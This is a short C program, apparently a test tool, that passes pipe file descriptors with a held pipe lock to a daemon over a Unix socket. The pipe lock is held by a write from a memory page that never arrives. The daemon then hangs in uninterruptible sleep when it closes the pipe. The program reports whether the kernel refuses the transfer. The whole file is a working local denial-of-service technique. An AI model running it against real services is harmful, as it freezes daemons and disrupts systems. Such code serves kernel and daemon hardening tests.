// Sends the last references to pipes with a held lock: the process that closes one waits for the lock, in a sleep that no signal ends.
//   lockedpipes SOCKET FILE COUNT    to a daemon, one in the request of each of COUNT connections; pages of FILE never arrive (see hang.c)
// Prints "refused" if the kernel refuses to send it, else "sent", and waits.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

enum { PAGE = 4096, LOCK_MICROSECONDS = 20000, PAUSE_MICROSECONDS = 150000 };

static char *page;

static void die(const char *what)
{
    perror(what);
    exit(2);
}

// Holds the lock of the pipe while it waits for the page (pipe_write in pipe.c of the kernel).
static void *hold(void *end)
{
    return write((int)(long)end, page, PAGE) < 0 ? NULL : page;
}

static int give(int to, int what)
{
    union {
        struct cmsghdr header;
        char room[CMSG_SPACE(sizeof(int))];
    } control = {.header = {.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS}};
    memcpy(CMSG_DATA(&control.header), &what, sizeof what);
    struct iovec part = {.iov_base = "{", .iov_len = 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control.room};
    if (sendmsg(to, &message, MSG_NOSIGNAL) >= 0)
        return 1;
    if (errno == EPERM)
        return 0;
    die("sendmsg");
    return 0;
}

int main(int argc, char **argv)
{
    if (argc != 4)
        return 64;
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    strncpy(at.sun_path, argv[1], sizeof at.sun_path - 1);
    int file = open(argv[2], O_RDONLY | O_CLOEXEC), is_sent = 1;
    page = mmap(NULL, PAGE, PROT_READ, MAP_PRIVATE, file, 0);
    if (file < 0 || page == MAP_FAILED)
        die(argv[2]);
    for (int i = 0; i < atoi(argv[3]) && is_sent; i++) {
        int pipe_ends[2], to = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        pthread_t holder;
        if (pipe2(pipe_ends, O_CLOEXEC) < 0 || pthread_create(&holder, NULL, hold, (void *)(long)pipe_ends[1]) != 0)
            die("pipe");
        usleep(LOCK_MICROSECONDS);
        if (connect(to, (void *)&at, sizeof at) < 0)
            die("connect");
        is_sent = give(to, pipe_ends[0]);
        if (is_sent)
            close(pipe_ends[0]);
        usleep(PAUSE_MICROSECONDS);
    }
    printf(is_sent ? "sent\n" : "refused\n");
    fflush(stdout);
    for (;;)
        pause();
}
